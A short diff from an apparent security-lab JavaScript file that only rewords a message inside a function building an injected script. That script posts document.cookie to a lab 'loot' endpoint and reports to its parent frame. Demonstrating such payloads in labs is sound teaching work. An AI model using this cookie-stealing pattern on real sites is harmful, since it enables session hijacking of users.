@@ -19,7 +19,7 @@ function say(text) {
 
 /** A script that carries something off and tells of it. */
 function payload() {
-  return `<script>document.body.append("This is the attacker’s script, running as " + origin);`
+  return `<script>document.body.append("A script of the attacker, running as " + origin);`
     + `fetch("/lab/careless/loot?lab_run=${run}", { method: "POST", body: document.cookie });`
     + `parent.postMessage({ run: "${run}", ran: true }, origin)</script>`;
 }
